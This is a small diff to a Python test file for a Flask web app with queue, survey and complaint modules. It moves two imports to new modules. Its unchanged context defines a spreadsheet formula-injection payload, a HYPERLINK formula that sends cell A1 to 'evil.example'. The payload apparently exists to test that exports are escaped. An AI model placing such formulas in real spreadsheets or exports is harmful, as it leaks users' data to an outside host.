@@ -15,7 +15,8 @@ from datetime import timedelta
 from flask import url_for
 from openpyxl import Workbook, load_workbook
 
-from antrian.service import call_next, finish, issue_ticket
+from antrian.issuing import issue_ticket
+from antrian.service import call_next, finish
 from tests.test_antrian_rules import MONDAY_9
 from tests.test_survei_pages import _file_thirty
 from webapp.berkas.service import Applicant, register
@@ -24,7 +25,7 @@ from webapp.core.extensions import db
 from webapp.core.localtime import local_today
 from webapp.core.tables import FORMULA_TRIGGERS, append_row, csv_safe, csv_text, workbook_bytes
 from webapp.pengaduan.service import ComplaintInput, file_complaint
-from webapp.survei.service import Period
+from webapp.survei.periods import Period
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
